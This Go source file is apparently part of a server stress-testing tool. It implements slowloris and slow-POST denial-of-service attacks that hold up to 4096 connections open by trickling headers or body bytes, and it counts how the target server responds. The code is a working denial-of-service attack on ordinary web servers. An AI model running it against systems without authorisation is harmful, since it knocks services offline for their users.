package scenario

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Kinds of Slow attack.
const (
	SlowLoris = "slowloris"
	SlowPost  = "slowpost"
)

// MaxSlowConns caps Slow.Conns.
const MaxSlowConns = 4096

// SlowInterval is the pace of a slow client: one header line (slowloris)
// or one byte of body (slow POST) per interval.
const SlowInterval = time.Second

// slowPostLength is the body length a slow POST declares.
const slowPostLength = 100000

// Slow holds Conns connections open as slowly as it can for Duration.
// "slowloris" sends a request line and then one header line per
// SlowInterval, never ending the headers; "slowpost" sends complete
// headers of a POST /api/v1/login declaring a 100 kB body and then the
// body at 1 byte per SlowInterval. Whatever the server has not closed at
// Duration is closed by Slow and counted as still open.
type Slow struct {
	Conns    int // at most MaxSlowConns
	Duration time.Duration
	Kind     string // "slowloris" (the default when empty) or "slowpost"
}

// SlowResult is what a Slow run saw.
type SlowResult struct {
	Opened         int         // connections established
	ClosedByServer int         // closed (or reset) by the server before Duration
	StillOpen      int         // open at Duration (then closed by Slow)
	Statuses       map[int]int // statuses of the answers the server sent before closing, if any
	DialErrors     int         // connections that could not be established
}

// Run runs the attack against t.URL's host and port (t.Client is not used).
func (s Slow) Run(ctx context.Context, t Target) SlowResult {
	res := SlowResult{Statuses: map[int]int{}}
	n := min(s.Conns, MaxSlowConns)
	if n <= 0 || s.Duration <= 0 {
		return res
	}
	u, err := url.Parse(t.URL)
	if err != nil || u.Host == "" {
		res.DialErrors = n
		return res
	}
	addr := u.Host
	if u.Port() == "" {
		addr = net.JoinHostPort(u.Hostname(), "80")
	}
	ctx, cancel := context.WithTimeout(ctx, s.Duration)
	defer cancel()

	var mu sync.Mutex
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			closed, status, ok := s.one(ctx, addr, u.Host, i)
			mu.Lock()
			defer mu.Unlock()
			if !ok {
				res.DialErrors++
				return
			}
			res.Opened++
			if closed {
				res.ClosedByServer++
			} else {
				res.StillOpen++
			}
			if status != 0 {
				res.Statuses[status]++
			}
		}()
	}
	wg.Wait()
	return res
}

// one holds one connection until the server closes it or ctx is done.
func (s Slow) one(ctx context.Context, addr, host string, i int) (closedByServer bool, status int, ok bool) {
	d := net.Dialer{Timeout: 5 * time.Second}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return false, 0, false
	}
	serverClosed := make(chan int, 1)
	go func() {
		// Reads until the server closes; reports the status of any answer.
		br := bufio.NewReader(c)
		st := 0
		line, rerr := br.ReadString('\n')
		if rerr == nil {
			if f := strings.Fields(line); len(f) >= 2 && strings.HasPrefix(f[0], "HTTP/") {
				st, _ = strconv.Atoi(f[1])
			}
		}
		for rerr == nil {
			_, rerr = br.ReadByte()
		}
		serverClosed <- st
	}()

	var head string
	if s.Kind == SlowPost {
		head = fmt.Sprintf("POST /api/v1/login HTTP/1.1\r\nHost: %s\r\nUser-Agent: preau-storm-slow\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", host, slowPostLength)
	} else {
		head = fmt.Sprintf("GET /?slow=%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: preau-storm-slow\r\n", i, host)
	}
	tick := time.NewTicker(SlowInterval)
	defer tick.Stop()
	_, werr := c.Write([]byte(head))
	sent := 1
	for werr == nil {
		select {
		case st := <-serverClosed:
			c.Close()
			return true, st, true
		case <-ctx.Done():
			c.Close()
			st := <-serverClosed
			return false, st, true
		case <-tick.C:
			c.SetWriteDeadline(time.Now().Add(SlowInterval))
			if s.Kind == SlowPost {
				if sent < slowPostLength {
					_, werr = c.Write([]byte{' '})
					sent++
				}
			} else {
				_, werr = fmt.Fprintf(c, "X-Slow-%d: %d\r\n", sent, sent)
				sent++
			}
		}
	}
	// A write failed: the server closed or reset the connection (or we
	// timed out writing to a server that stopped reading).
	c.Close()
	st := <-serverClosed
	return ctx.Err() == nil, st, true
}
